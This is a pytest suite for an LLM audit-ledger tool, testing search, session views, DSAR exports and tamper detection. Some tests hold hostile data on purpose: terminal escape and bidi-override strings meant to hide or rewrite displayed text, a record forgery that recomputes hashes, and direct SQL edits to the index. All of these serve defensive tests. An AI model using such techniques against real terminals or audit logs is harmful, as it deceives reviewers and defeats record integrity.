"""Audits, DSARs and forensics: index, search, show, session, export and verify-export.

The commands run through click's CliRunner inside the real command group; the streamed chat
goes through the real proxy (a subprocess) in front of the simulator, driven by the official
``openai`` client; the HTML export is opened in headless Chromium when it is installed.
"""

from __future__ import annotations

import base64
import collections
import contextlib
import csv
import hashlib
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import click
import openai
import orjson
import pytest
from click.testing import CliRunner, Result

from tokentrail._audit import (
    Filters,
    Index,
    export_command,
    index_command,
    search,
    search_command,
    session_command,
    show_command,
    verify_export_command,
)
from tokentrail._checkpoint import Signer
from tokentrail._cli import _Main, main
from tokentrail._layout import segment_bytes
from tokentrail._ledger import Ledger, LedgerConfig
from tokentrail._merkle import MerkleLevels, inclusion_proof, leaf_hash
from tokentrail._record import Exchange
from tokentrail._sim import SimConfig, sim_in_thread

SRC = Path(__file__).resolve().parents[1] / "src"
USERS = 50
BIG = 100_000

CLI = _Main(
    "tokentrail",
    commands={
        "index": index_command,
        "search": search_command,
        "show": show_command,
        "session": session_command,
        "export": export_command,
        "verify-export": verify_export_command,
    },
)


def run(*args: str | Path) -> Result:
    """Run one audit command in the real group (errors become one line, exit 2)."""
    return CliRunner().invoke(CLI, [str(a) for a in args], catch_exceptions=False)


# ---------------------------------------------------------------------- ledgers


@dataclass
class Ledgers:
    """A ledger on disk with its keys."""

    root: Path
    signer: Signer
    pub: Path
    key: Path


def _keys(tmp: Path, name: str = "audit-test") -> tuple[Signer, Path, Path]:
    signer = Signer.generate(name)
    key = tmp / "signing.key"
    signer.save(key)
    pub = tmp / "verifier.pub"
    pub.write_text(signer.verifier.to_text() + "\n")
    return signer, key, pub


def small_exchange(k: int, users: int = USERS) -> Exchange:
    """A small record: user, session, model and stop reason vary with ``k``."""
    return Exchange(
        model=("llama3.2:1b", "qwen2.5:0.5b")[k % 2],
        api="sdk",
        stop_reason=("stop", "length", "client_disconnect")[k % 3],
        input_text=f"question {k} about invoices",
        output_text=f"answer {k}",
        input_tokens=[k % 1000, 7],
        output_tokens=["answer", f" {k}"],
        input_token_source="upstream-ids",
        output_token_source="upstream-pieces",
        user_id=f"user-{k % users}",
        session_id=f"s-{k % 997}",
    )


def mallory_ledger(tmp: Path, texts: list[str]) -> tuple[Path, Path, Path]:
    """A sealed one-log ledger whose user "mallory" (session "weird") sent and got each of
    ``texts``: its root, signing key and verifier key files."""
    signer, key, pub = _keys(tmp)
    root = tmp / "ledger"
    with Ledger.open(LedgerConfig(root, "log-0", signer)) as ledger:
        for text in texts:
            fields = {"input_text": text, "output_text": text, "session_id": "weird"}
            ledger.append(Exchange("m", "sdk", "stop", user_id="mallory", **fields))
    return root, key, pub


def write_ledger(root: Path, signer: Signer, n: int, logs: int = 2, start: int = 0) -> None:
    """``n`` small records spread over ``logs`` logs (async durability: fast)."""
    per = n // logs
    for log in range(logs):
        config = LedgerConfig(root, f"log-{log}", signer, durability="async")
        with Ledger.open(config) as ledger:
            for i in range(per):
                ledger.append(small_exchange(start + log * per + i))


@pytest.fixture(scope="module")
def big(tmp_path_factory: pytest.TempPathFactory) -> Ledgers:
    """100,000 records of 50 users in two logs, sealed."""
    tmp = tmp_path_factory.mktemp("big")
    signer, key, pub = _keys(tmp)
    started = time.perf_counter()
    write_ledger(tmp / "ledger", signer, BIG)
    print(f"\nwrote {BIG} records in {time.perf_counter() - started:.1f} s")
    return Ledgers(tmp / "ledger", signer, pub, key)


@pytest.fixture
def small(tmp_path: Path) -> Ledgers:
    """600 records of 7 users in two logs."""
    signer, key, pub = _keys(tmp_path)
    root = tmp_path / "ledger"
    per = 300
    for log in range(2):
        with Ledger.open(LedgerConfig(root, f"log-{log}", signer)) as ledger:
            for i in range(per):
                ledger.append(small_exchange(log * per + i, users=7))
    return Ledgers(root, signer, pub, key)


def records_of(root: Path) -> list[dict[str, Any]]:
    """Every record in the ledger (brute force, for comparisons)."""
    out = []
    for path in sorted(root.glob("logs/*/segments/*/*.jsonl")):
        out.extend(orjson.loads(line) for line in path.read_bytes().splitlines())
    return out


# ---------------------------------------------------------------------- Merkle levels


class TestMerkleLevels:
    """Proofs read off the tree's levels are the RFC 9162 audit paths."""

    @pytest.mark.parametrize("size", [1, 2, 3, 4, 5, 7, 8, 9, 13, 16, 17, 31, 33])
    def test_same_as_rfc_path(self, size: int) -> None:
        """Every leaf's path equals tokentrail._merkle.inclusion_proof."""
        hashes = [leaf_hash(str(i).encode()) for i in range(size)]
        tree = MerkleLevels(hashes)
        assert [inclusion_proof(i, hashes) for i in range(size)] == [
            tree.proof(i) for i in range(size)
        ]


# ---------------------------------------------------------------------- index and search


class TestIndex:
    """The sidecar index: where it lives, incremental updates, rebuilds."""

    def test_lives_beside_logs(self, small: Ledgers) -> None:
        """The index is under <root>/index/, never inside logs/."""
        result = run("index", "--ledger", small.root)
        assert result.exit_code == 0, result.output
        assert "indexed 600 new records (600 in all, 2 logs)" in result.output
        assert (small.root / "index" / "audit.sqlite3").exists()
        assert not list((small.root / "logs").rglob("*.sqlite3"))

    def test_progress_adds_up_to_the_segments(self, small: Ledgers) -> None:
        """An update's progress steps add up to the ledger's segment bytes, the first update
        and a later one (what was indexed before given at once) alike."""
        for more in (0, 10):
            if more:
                write_ledger(small.root, small.signer, more, logs=1, start=5000)
            steps: list[int] = []
            with Index.open(small.root) as index:
                index.update(steps.append)
            assert sum(steps) == segment_bytes(small.root)

    def test_incremental(self, small: Ledgers) -> None:
        """A second update reads only what was appended since."""
        with Index.open(small.root) as index:
            assert index.update().added == 600
            assert index.update().added == 0
            with Ledger.open(LedgerConfig(small.root, "log-1", small.signer)) as ledger:
                for k in range(5):
                    ledger.append(small_exchange(10_000 + k))
            stats = index.update()
            assert (5, 605, []) == (stats.added, stats.total, stats.warnings)

    def test_rebuild_gives_same_rows(self, small: Ledgers) -> None:
        """Dropping and rebuilding the index yields the same rows."""
        with Index.open(small.root) as index:
            index.update()
            before = {(r.log_id, r.seq, r.event_id, r.leaf_hash) for r in index.rows()}
        result = run("index", "--ledger", small.root, "--rebuild")
        assert "indexed 600 new records" in result.output
        with Index.open(small.root) as index:
            assert before == {(r.log_id, r.seq, r.event_id, r.leaf_hash) for r in index.rows()}

    def test_rewritten_log_is_reindexed(self, small: Ledgers) -> None:
        """A log replaced under the index is reported and indexed again from seq 0."""
        with Index.open(small.root) as index:
            index.update()
        shutil.rmtree(small.root / "logs" / "log-1")
        with Ledger.open(LedgerConfig(small.root, "log-1", small.signer)) as ledger:
            for k in range(3):
                ledger.append(small_exchange(k))
        with Index.open(small.root) as index:
            stats = index.update()
            assert stats.rebuilt_logs == ["log-1"]
            assert index.count("r.log_id = 'log-1'") == 3


@contextlib.contextmanager
def read_only(*paths: Path) -> Iterator[None]:
    """Make ``paths`` unwritable for this process: ``chmod a-w``, or for root (whom modes do not
    stop) the immutable attribute; skip the test where neither works."""
    root = os.geteuid() == 0
    done: list[Path] = []
    try:
        for path in paths:
            if root:
                if subprocess.run(["chattr", "+i", str(path)], capture_output=True).returncode:
                    pytest.skip("cannot make a folder read-only for root here (chattr +i)")
            else:
                path.chmod(path.stat().st_mode & ~0o222)
            done.append(path)
        yield
    finally:
        for path in reversed(done):
            if root:
                subprocess.run(["chattr", "-i", str(path)], capture_output=True)
            else:
                path.chmod(path.stat().st_mode | 0o200)


class TestSearch:
    """Filters agree with a brute-force scan, and every hit is re-checked."""

    @pytest.mark.parametrize(
        "filters",
        [
            {"user": "user-3"},
            {"session": "s-5"},
            {"model": "qwen2.5:0.5b", "stop_reason": "length"},
            {"text": "QUESTION 12 "},
            {"text": "r 3"},
            {"user": "user-2", "text": "invoices"},
        ],
    )
    def test_filters(self, small: Ledgers, filters: dict[str, str]) -> None:
        """Search returns exactly the records a scan of the ledger finds."""
        expected = set()
        names = {"user": "user_id", "session": "session_id"}
        for rec in records_of(small.root):
            if all(
                any(v.lower() in rec[f].lower() for f in ("input_text", "output_text"))
                if k == "text"
                else rec[names.get(k, k)] == v
                for k, v in filters.items()
            ):
                expected.add(rec["event_id"])
        with Index.open(small.root) as index:
            index.update()
            result = search(small.root, index, Filters(**filters), None)
        assert expected == {h.row.event_id for h in result.hits}
        assert result.problems == []

    @pytest.mark.parametrize(
        ("key", "field", "filters"),
        [
            ("user", "user_id", []),
            ("model", "model", ["--stop-reason", "length"]),
            ("stop-reason", "stop_reason", ["--user", "user-3"]),
            ("session", "session_id", ["--model", "qwen2.5:0.5b"]),
            ("log", "log_id", []),
            ("day", "timestamp", []),
        ],
    )
    def test_count_by(self, small: Ledgers, key: str, field: str, filters: list[str]) -> None:
        """--count-by gives the count of matching records of each value, most first, as a
        scan of the ledger counts them."""
        names = {"--stop-reason": "stop_reason", "--user": "user_id", "--model": "model"}
        wanted = dict(zip([names[f] for f in filters[::2]], filters[1::2], strict=True))
        scan = collections.Counter(
            rec[field][:10] if key == "day" else rec[field]
            for rec in records_of(small.root)
            if all(rec[k] == v for k, v in wanted.items())
        )
        args = ("search", "--ledger", small.root, "--count-by", key, *filters)
        result = run(*args, "--json")
        assert result.exit_code == 0, result.output
        rows = [orjson.loads(line) for line in result.stdout.splitlines()]
        name = "day" if key == "day" else field
        assert {r[name]: r["records"] for r in rows} == dict(scan)
        assert [r["records"] for r in rows] == sorted(scan.values(), reverse=True)
        table = run(*args)
        assert table.exit_code == 0, table.output
        assert table.stdout.splitlines()[-1] == (
            f"{sum(scan.values()):,} records in {len(scan):,} group"
            f"{'' if len(scan) == 1 else 's'} by {name}, counted from the search index (not"
            " re-read: tokentrail verify checks the ledger)"
        )

    def test_json_carries_what_an_auditor_reads(self, tmp_path: Path, signer: Signer) -> None:
        """search --json gives the api, version, duration, token sources and counts, usage and
        a retry's link, as the record holds them."""
        root = tmp_path / "ledger"
        with Ledger.open(LedgerConfig(root, "log-0", signer)) as ledger:
            first = ledger.append(small_exchange(1))
            extra = {"gen_ai.usage.input_tokens": 2, "gen_ai.usage.output_tokens": 2}
            ledger.append(
                replace(
                    small_exchange(4),
                    model_version="llama3.2:1b@sha256:abc",
                    request_duration_ms=12.5,
                    extra={**extra, "retry_of": first.event_id},
                )
            )
        result = run("search", "--ledger", root, "--json", "--limit", "0")
        assert result.exit_code == 0, result.output
        one, two = (orjson.loads(line) for line in result.stdout.splitlines())
        assert (one["retry_of"], two["retry_of"]) == (None, first.event_id)
        assert two["model_version"] == "llama3.2:1b@sha256:abc"
        assert (two["api"], two["request_duration_ms"]) == ("sdk", 12.5)
        assert (two["input_token_source"], two["output_token_source"]) == (
            "upstream-ids",
            "upstream-pieces",
        )
        assert (two["input_tokens_count"], two["output_tokens_count"]) == (2, 2)
        assert (two["usage_input_tokens"], two["usage_output_tokens"]) == (2, 2)

    def test_count_by_refuses_text(self, small: Ledgers) -> None:
        """--count-by with --text: one error line, exit 2 (the index holds no text)."""
        result = run("search", "--ledger", small.root, "--count-by", "user", "--text", "x")
        assert result.exit_code == 2
        assert "--count-by counts the index's rows, which hold no text" in result.stderr

    def test_anonymous(self, tmp_path: Path, signer: Signer) -> None:
        """--anonymous finds the records with no user_id (null or empty), and only those;
        with --user it is refused."""
        root = tmp_path / "ledger"
        users = [None, "user-1", "", None, "user-2"]
        with Ledger.open(LedgerConfig(root, "log-0", signer, durability="async")) as ledger:
            made = [
                ledger.append(replace(small_exchange(k), user_id=u)) for k, u in enumerate(users)
            ]
        expected = [r.event_id for r, u in zip(made, users, strict=True) if not u]
        result = run("search", "--ledger", root, "--anonymous", "--json", "--limit", "0")
        assert result.exit_code == 0, result.output
        hits = [orjson.loads(line) for line in result.output.splitlines()]
        assert sorted(expected) == sorted(h["event_id"] for h in hits) and len(hits) == 3
        # A ledger that seals nothing gives the sealed ledger's keys too (a script reads both).
        assert all((h["content_sealed"], h["content_erased_at"]) == (False, None) for h in hits)
        both = run("search", "--ledger", root, "--anonymous", "--user", "user-1")
        assert 2 == both.exit_code
        assert "tokentrail: error: --anonymous and --user exclude each other" in both.output

    def test_time_range(self, small: Ledgers) -> None:
        """--since/--until select by record timestamp."""
        recs = sorted(records_of(small.root), key=lambda r: r["timestamp"])
        lo, hi = recs[100]["timestamp"], recs[200]["timestamp"]
        result = run("search", "--ledger", small.root, "--since", lo, "--until", hi, "--json",
                     "--limit", "0")  # fmt: skip
        got = [orjson.loads(line)["event_id"] for line in result.output.splitlines()]
        assert [r["event_id"] for r in recs[100:200]] == got

    @pytest.mark.parametrize("command", ["search", "export"])
    @pytest.mark.parametrize("until", ["2026-01-01", "2026-03-01T00:00:00Z"])
    def test_empty_range_refused(
        self,
        small: Ledgers,
        tmp_path: Path,
        command: str,
        until: str,
        monkeypatch: pytest.MonkeyPatch,
    ) -> None:
        """--since not before --until selects nothing by construction: refused, exit 2, one
        line, rather than an empty answer that reads like "no records" — before anything the
        environment lacks (here, with no default key, export names the range, not the key)."""
        monkeypatch.setenv("TOKENTRAIL_HOME", str(tmp_path / "no-keys-here"))
        extra = ["--user", "user-3", "--out", str(tmp_path / "x")] if command == "export" else []
        result = run(command, "--ledger", small.root, "--since", "2026-03-01", "--until", until,
                     *extra)  # fmt: skip
        assert (2, "") == (result.exit_code, result.stdout), result.output
        assert result.stderr == (
            f"tokentrail: error: --since 2026-03-01 is not before --until {until}: the range is"
            " empty\n"
        )
        assert not (tmp_path / "x").exists()

    def test_table_and_limit(self, small: Ledgers) -> None:
        """The table shows the hits and says when more matched."""
        result = run("search", "--ledger", small.root, "--user", "user-3", "--limit", "5",
                     "--public-key", small.pub)  # fmt: skip
        assert result.exit_code == 0
        assert result.output.count("user-3") == 5
        assert (
            "5 records, each re-checked against the ledger, each proven under its log's signed"
            " checkpoint (more: raise --limit)"
        ) in result.output

    def test_a_record_forged_without_the_key_is_not_shown_as_fine(self, small: Ledgers) -> None:
        """An answer rewritten with its text hash and every later ``prev_hash`` recomputed (no
        key needed) reads as intact record by record: only the signed checkpoint's root tells.
        ``search`` and ``session`` prove each record under it; they showed the forgery as
        checked, exit 0 (the index, built from the forged log, agreed with it)."""
        shutil.rmtree(small.root / "index", ignore_errors=True)
        segment = sorted((small.root / "logs" / "log-0" / "segments").rglob("*.jsonl"))[0]
        lines = segment.read_bytes().splitlines(keepends=True)
        records = [json.loads(line) for line in lines]
        target = next(i for i, r in enumerate(records) if r["user_id"] == "user-3")
        records[target]["output_text"] = "I never said that."
        records[target]["output_text_hash"] = hashlib.sha256(b"I never said that.").hexdigest()
        out = []
        for i, rec in enumerate(records):
            if i > target:
                rec["prev_hash"] = leaf_hash(out[-1]).hex()
            out.append(json.dumps(rec, separators=(",", ":"), ensure_ascii=False).encode())
        segment.write_bytes(b"".join(line + b"\n" for line in out))
        found = run("search", "--ledger", small.root, "--user", "user-3", "--limit", "0",
                    "--public-key", small.pub)  # fmt: skip
        assert found.exit_code == 1, found.output
        assert "I never said" not in found.stdout
        assert f"seq={target}" in found.stderr and "NOT PROVEN" in found.stderr
        turns = run("session", records[target]["session_id"], "--ledger", small.root,
                    "--public-key", small.pub)  # fmt: skip
        assert turns.exit_code == 1, turns.output
        assert "FAIL" in turns.stdout

    def test_hostile_text_is_shown_not_obeyed(self, tmp_path: Path) -> None:
        """A prompt is anyone's text: rich markup in it ("[/]" crashed the table with a
        traceback; "[link=…]" became a live link) and terminal controls (ESC clears the
        screen, a CR hides what comes before it) are shown as written, escaped."""
        texts = ["close [/] tag", "[link=https://e.x]c[/link] [bold]b",
                 "\x1b[2Jcleared", "I agree\rI REFUSE", "abc\u202edef"]  # fmt: skip
        root, _, pub = mallory_ledger(tmp_path, texts)
        found = run("search", "--ledger", root, "--user", "mallory", "--public-key", pub)
        assert found.exit_code == 0, found.output
        for shown in ("close [/] tag", "[link=https://e.x]c[/link]", "[bold]b",
                      "\\x1b[2Jcleared", "I agree\\rI REFUSE", "abc\\u202edef"):  # fmt: skip
            assert shown in found.stdout, (shown, found.stdout)
        assert "\x1b" not in found.stdout and "\r" not in found.stdout
        turns = run("session", "weird", "--ledger", root, "--public-key", pub, "--no-color")
        assert turns.exit_code == 0, turns.output
        assert "close [/] tag" in turns.stdout and "I agree\\rI REFUSE" in turns.stdout
        assert "\x1b" not in turns.stdout and "\r" not in turns.stdout

    def test_what_was_proven_is_kept_and_extended(self, small: Ledgers) -> None:
        """The compact range a signed root was found to cover is kept in the index: the next
        search hashes only the leaves sealed since."""
        import sqlite3

        def kept() -> dict[str, int]:
            with sqlite3.connect(small.root / "index" / "audit.sqlite3") as conn:
                rows = conn.execute("SELECT key, value FROM meta WHERE key LIKE 'proven:%'")
                return {key: json.loads(value)["size"] for key, value in rows}

        args = ("search", "--ledger", small.root, "--user", "user-3", "--public-key", small.pub)
        assert run(*args).exit_code == 0
        assert {"proven:log-0": 300, "proven:log-1": 300} == kept()
        with Ledger.open(LedgerConfig(small.root, "log-0", small.signer)) as ledger:
            for i in range(20):
                ledger.append(small_exchange(600 + i, users=7))
        result = run(*args)
        assert result.exit_code == 0 and "each proven" in result.stdout, result.output
        assert {"proven:log-0": 320, "proven:log-1": 300} == kept()

    def test_no_update_on_an_empty_index_warns(self, small: Ledgers) -> None:
        """--no-update on a ledger never indexed finds nothing, and says why on stderr."""
        shutil.rmtree(small.root / "index", ignore_errors=True)
        result = run("search", "--ledger", small.root, "--user", "user-0", "--no-update")
        assert result.exit_code == 0
        assert result.stdout.endswith(
            "0 records, each re-checked against the ledger; none proven under a signed"
            " checkpoint (no verifier key: --public-key)\n"
        )
        assert result.stderr == (
            f"tokentrail: warning: the index of {small.root} is empty, so nothing is searched;"
            " run tokentrail index, or search without --no-update\n"
        )
        run("index", "--ledger", small.root)
        result = run("search", "--ledger", small.root, "--user", "user-0", "--no-update")
        assert (0, "") == (result.exit_code, result.stderr)

    def test_read_only_ledger(self, small: Ledgers, tmp_path: Path) -> None:
        """An auditor's read-only copy: search uses the index its operator built, as built,
        and says so; with no index it indexes the copy in memory, and says so (nothing is
        written); index refuses."""
        ledger = tmp_path / "copy"
        shutil.copytree(small.root, ledger)
        run("index", "--ledger", ledger)
        bare = tmp_path / "bare"
        shutil.copytree(small.root, bare, ignore=shutil.ignore_patterns("index"))
        with read_only(ledger, ledger / "index", *(ledger / "index").iterdir(), bare):
            result = run("search", "--ledger", ledger, "--user", "user-3", "--json", "--limit", 0)
            assert result.exit_code == 0, result.output
            hits = [orjson.loads(line) for line in result.stdout.splitlines()]
            assert len(hits) == sum(r["user_id"] == "user-3" for r in records_of(small.root))
            assert result.stderr.startswith(
                f"tokentrail: warning: {ledger} cannot be written here: searching its index as"
                " last built (600 records)"
            )
            refused = run("index", "--ledger", ledger)
            assert (2, "") == (refused.exit_code, refused.stdout)
            assert "cannot be written by this user: a read-only ledger" in refused.stderr
            before = sorted(p.relative_to(bare) for p in bare.rglob("*"))
            missing = run("search", "--ledger", bare, "--user", "user-3", "--json", "--limit", 0)
            assert 0 == missing.exit_code, missing.output
            assert hits == [orjson.loads(line) for line in missing.stdout.splitlines()]
            assert missing.stderr == (
                f"tokentrail: warning: {bare} cannot be written here and has no search index:"
                " indexing it in memory for this command (keep one beside it: tokentrail"
                " index)\n"
            )
            event_id = hits[0]["event_id"]
            shown = run("show", event_id, "--ledger", bare, "--no-color")
            assert 0 == shown.exit_code, shown.output
            assert event_id in shown.stdout
            assert before == sorted(p.relative_to(bare) for p in bare.rglob("*"))

    @pytest.mark.parametrize(
        "edit",
        [
            "UPDATE records SET user_id = 'user-3' WHERE user_id = 'user-4'",
            "UPDATE segments SET first_seq = 'x'",
            "UPDATE records SET offset = 'abc'",
        ],
        ids=["relabelled", "first-seq-text", "offset-text"],
    )
    def test_edited_index_is_reported(self, small: Ledgers, edit: str) -> None:
        """An index edited under the ledger: a hit whose record does not hold what the search
        filtered on, or a row of the wrong types, is a MISMATCH (exit 1), never a wrong hit
        shown as checked, nor a traceback."""
        import sqlite3

        run("index", "--ledger", small.root)
        with sqlite3.connect(small.root / "index" / "audit.sqlite3") as conn:
            conn.execute(edit)
        result = run("search", "--ledger", small.root, "--user", "user-3", "--no-update",
                     "--limit", "0", "--json")  # fmt: skip
        assert 1 == result.exit_code, result.output
        assert "Traceback" not in result.output
        assert "indexed records fail their re-check" in result.stderr
        lines = [orjson.loads(line) for line in result.stdout.splitlines()]
        hits = [line for line in lines if "problem" not in line]
        assert {"user-3"} >= {hit["user_id"] for hit in hits}
        assert any("problem" in line for line in lines), lines

    def test_edited_leaf_is_reported(self, small: Ledgers) -> None:
        """A record edited after indexing is reported as MISMATCH, not shown, exit 1."""
        run("index", "--ledger", small.root)
        seg = next((small.root / "logs" / "log-0" / "segments").glob("*/*.jsonl"))
        data = seg.read_bytes()
        seg.write_bytes(data.replace(b'"question 14 about', b'"question 14 abouT', 1))
        result = run("search", "--ledger", small.root, "--user", "user-0", "--no-update",
                     "--limit", "0")  # fmt: skip
        assert result.exit_code == 1
        pattern = (
            r"MISMATCH log=log-0 seq=14 event_id=\S+ file=\S+ offset=\d+: the"
            r" stored line's leaf hash differs from the index"
        )
        assert re.search(pattern, result.output)
        assert "question 14 about" not in result.output


# ---------------------------------------------------------------------- show and session


def _start_proxy(tmp: Path, upstream: str) -> tuple[subprocess.Popen[bytes], str, list[str]]:
    cmd = [sys.executable, "-m", "tokentrail", "serve", "--upstream", upstream,
           "--listen", "127.0.0.1:0", "--ledger", str(tmp / "ledger"),
           "--key", str(tmp / "signing.key"), "--log-id", "chat",
           "--trust-identity-headers", "--request-token-data", "logprobs"]  # fmt: skip
    env = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join([str(SRC), os.environ.get("PYTHONPATH", "")]),
    }
    proc = subprocess.Popen(cmd, stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, env=env)
    assert proc.stderr is not None
    lines: list[str] = []
    for raw in proc.stderr:
        lines.append(raw.decode(errors="replace").rstrip())
        if "listening on " in lines[-1]:
            url = lines[-1].split("listening on ", 1)[1].strip()
            break
    else:
        raise AssertionError("proxy did not start:\n" + "\n".join(lines))
    verifier = next(ln.split("verifier key ", 1)[1] for ln in lines if "verifier key " in ln)
    stream = proc.stderr
    threading.Thread(target=lambda: [None for _ in stream], daemon=True).start()
    return proc, url, [verifier]


@pytest.fixture(scope="module")
def chat(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str, list[str]]]:
    """A three-turn streamed chat through the real proxy; yields (ledger, verifier, replies)."""
    tmp = tmp_path_factory.mktemp("chat")
    questions = ["What is an audit log?", "Why must it be append-only?", "Thanks, summarise."]
    replies: list[str] = []
    with sim_in_thread(SimConfig(mode="openai")) as sim:
        proc, url, (verifier,) = _start_proxy(tmp, sim)
        try:
            client = openai.OpenAI(
                base_url=url + "/v1",
                api_key="unused",
                default_headers={"X-Tokentrail-User": "alice", "X-Tokentrail-Session": "conv-42"},
            )
            messages: list[Any] = [{"role": "system", "content": "You are terse."}]
            for q in questions:
                messages.append({"role": "user", "content": q})
                stream = client.chat.completions.create(
                    model="llama3.2:1b", messages=messages, stream=True
                )
                reply = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
                replies.append(reply)
                messages.append({"role": "assistant", "content": reply})
        finally:
            proc.send_signal(signal.SIGTERM)
            proc.wait(15)
    yield tmp / "ledger", verifier, replies


class TestShowAndSession:
    """A streamed multi-turn chat, seen through show and session."""

    def test_session_turn_by_turn(self, chat: tuple[Path, str, list[str]]) -> None:
        """Each turn shows its context, marking new messages, then the reply."""
        ledger, _, replies = chat
        result = run("session", "--ledger", ledger, "conv-42", "--no-color")
        assert result.exit_code == 0, result.output
        out = result.output
        assert "session conv-42: 3 turns" in out
        assert "…" not in out  # a file or pipe gets 160 columns: no header cut short
        turns = re.split(r"─+ turn \d ", out)[1:]
        assert len(turns) == 3
        assert all("· stop_reason stop ·" in turn for turn in turns)  # was "· stop stop ·"
        assert "what the model saw (2 messages):" in turns[0]
        assert "+ system: You are terse." in turns[0]
        assert "+ user: What is an audit log?" in turns[0]
        assert f"reply: {replies[0]}" in turns[0]
        assert "what the model saw (4 messages):" in turns[1]
        assert "  system: You are terse." in turns[1]  # seen before: no '+'
        assert f"  assistant: {replies[0]}" in turns[1]
        assert "+ user: Why must it be append-only?" in turns[1]
        assert "(not a reply recorded in this session)" not in out
        assert "what the model saw (6 messages):" in turns[2]
        assert f"reply: {replies[2]}" in turns[2]

    def test_show_proven_with_boundaries(self, chat: tuple[Path, str, list[str]]) -> None:
        """show: metadata, '|' between tokens without colour, proven inclusion."""
        ledger, verifier, replies = chat
        found = run("search", "--ledger", ledger, "--session", "conv-42", "--json")
        second = [orjson.loads(line) for line in found.output.splitlines()][1]
        result = run("show", "--ledger", ledger, "--public-key", verifier,
                     second["event_id"], "--no-color")  # fmt: skip
        assert result.exit_code == 0, result.output
        out = result.output
        rec = next(r for r in records_of(ledger) if r["event_id"] == second["event_id"])
        seg = next((ledger / "logs").glob("*/segments/*/*.jsonl"))
        assert f"file           {seg} @ 0" in out or f"{seg} @" in out  # whole, not cut to "…"
        for expected in ("user           alice", "session        conv-42", "api            "
                         "openai.chat, streamed", "integrity      OK",
                         "inclusion      PROVEN: included in the signed checkpoint of size 3",
                         "output upstream-pieces"):  # fmt: skip
            assert expected in out
        pieces = rec["output_tokens"]
        assert len(pieces) > 3
        shown = "|".join(p if isinstance(p, str) else "‹" + " ".join(f"{b:02x}" for b in p) + "›"
                         for p in pieces)  # fmt: skip
        assert f"tokens: {shown}" in out
        assert f"text: {replies[1]}" in out
        assert "user: Why must it be append-only?" in out

    def test_show_colours_and_ids(self, chat: tuple[Path, str, list[str]]) -> None:
        """In colour, tokens alternate backgrounds; --ids lists each token."""
        ledger, verifier, _ = chat
        event = records_of(ledger)[0]["event_id"]
        coloured = run("show", "--ledger", ledger, "--public-key", verifier, event, "--color")
        assert "\x1b[30;46m" in coloured.output and "\x1b[30;43m" in coloured.output
        listed = run("show", "--ledger", ledger, "--public-key", verifier, event, "--ids",
                     "--no-color")  # fmt: skip
        assert re.search(r"^\s*0\s+'[^']+'\s+piece\s+-?\d+\.\d{4}\s*$", listed.output, re.M)
        rec = records_of(ledger)[0]
        assert rec["input_tokens"] is None  # an openai chat: no token data for the prompt
        assert "tokens: (unknown: no token data recorded)" in listed.output
        assert 1 == len(re.findall(r"^\s*#\s+token\s+kind", listed.output, re.M))

    def test_show_with_a_key_that_signed_nothing(
        self, chat: tuple[Path, str, list[str]], tmp_path: Path
    ) -> None:
        """A verifier key that signed none of the checkpoints: NOT PROVEN, and exit 1 (as for a
        record that fails its checks), not 0."""
        ledger, _, _ = chat
        event = records_of(ledger)[0]["event_id"]
        other = Signer.generate("someone-else").verifier.to_text()
        result = run("show", "--ledger", ledger, "--public-key", other, event, "--no-color")
        assert "inclusion      NOT PROVEN" in result.output
        assert result.exit_code == 1, result.output

    def test_show_without_key_says_not_checked(self, chat: tuple[Path, str, list[str]]) -> None:
        """With no verifier key at hand, show says inclusion was not checked."""
        ledger, _, _ = chat
        event = records_of(ledger)[0]["event_id"]
        env = {"TOKENTRAIL_HOME": str(ledger.parent / "nokeys")}
        result = CliRunner(env=env).invoke(CLI, ["show", "--ledger", str(ledger), event])
        assert "not checked: no verifier key" in result.output

    def test_unknown_event(self, chat: tuple[Path, str, list[str]]) -> None:
        """An event id no record has is one error line, exit 2; one in capitals is found."""
        ledger, verifier, _ = chat
        absent = "0b6e2c9e-6a5e-4f7e-9d0e-3f1a2b4c5d6e"
        result = run("show", "--ledger", ledger, "--public-key", verifier, absent)
        assert result.exit_code == 2
        assert f"tokentrail: error: no record with event_id {absent}" in result.output
        event = records_of(ledger)[0]["event_id"]
        found = run("show", "--ledger", ledger, "--public-key", verifier, event.upper())
        assert found.exit_code == 0 and event in found.output

    @pytest.mark.parametrize("command", ["show", "prove"])
    def test_not_an_event_id(self, chat: tuple[Path, str, list[str]], command: str) -> None:
        """A value that is no UUID is a usage error that says what an event id looks like."""
        ledger, _, _ = chat
        result = CliRunner().invoke(main, [command, "--ledger", str(ledger), "nope"])
        assert result.exit_code == 2
        assert "'nope' is not an event id" in result.output
        assert "Traceback" not in result.output


# ---------------------------------------------------------------------- export


def _export(lg: Ledgers, out: Path, *args: str) -> Result:
    result = run("export", "--ledger", lg.root, "--public-key", lg.pub, "--key", lg.key,
                 "--out", out, *args)  # fmt: skip
    assert result.exit_code == 0, result.output
    return result


def _verify(path: Path, *args: str | Path) -> Result:
    return run("verify-export", path, *args)


@pytest.fixture(scope="module")
def user7(big: Ledgers, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """user-7's JSONL export of the big ledger."""
    out = tmp_path_factory.mktemp("exports") / "user-7"
    started = time.perf_counter()
    _export(big, out, "--user", "user-7")
    print(f"\nexported user-7 of {BIG} records in {time.perf_counter() - started:.2f} s")
    return out


def _fresh(src: Path, tmp: Path) -> Path:
    dst = tmp / "copy"
    shutil.copytree(src, dst)
    return dst


class TestExport:
    """DSAR packages: complete, exact, and failing loudly when touched."""

    def test_exactly_the_subjects_records(self, big: Ledgers, user7: Path) -> None:
        """The package holds every record of user-7 and nothing else."""
        expected = {r["event_id"] for r in records_of(big.root) if r["user_id"] == "user-7"}
        lines = (user7 / "records.jsonl").read_bytes().splitlines()
        got = [orjson.loads(orjson.loads(line)["record"]) for line in lines]
        assert len(expected) == BIG // USERS
        assert expected == {r["event_id"] for r in got}
        assert len(got) == len(expected)
        assert {r["user_id"] for r in got} == {"user-7"}
        assert sorted(p.name for p in user7.iterdir()) == [
            "README.txt", "checkpoints", "manifest.json", "manifest.sig", "records.jsonl",
            "verifier.pub",
        ]  # fmt: skip
        assert "tokentrail verify-export" in (user7 / "README.txt").read_text()

